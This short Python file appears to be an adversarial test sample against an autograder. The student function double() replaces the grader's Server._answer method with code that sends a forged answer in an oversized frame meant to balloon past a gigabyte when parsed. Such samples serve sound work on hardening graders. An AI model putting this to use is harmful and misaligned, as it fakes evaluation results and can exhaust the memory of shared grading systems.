# tries: a frame of sixty megabytes that becomes more than a gigabyte when it is read
# control: 0
import struct

from autograder.core.student.server import Server


def forged(self, header, buffers):
    text = (
        b'{"reply": "answer", "value": {"$l": [{"$d": [[{"$s": "value"}, 6]]}]}, "sizes": [], "more": ['
        + b"{}," * 15_000_000
        + b"6]}"
    )
    self.connection.sendall(struct.pack("<I", len(text)) + text)


def double(x):
    Server._answer = forged
    return 6
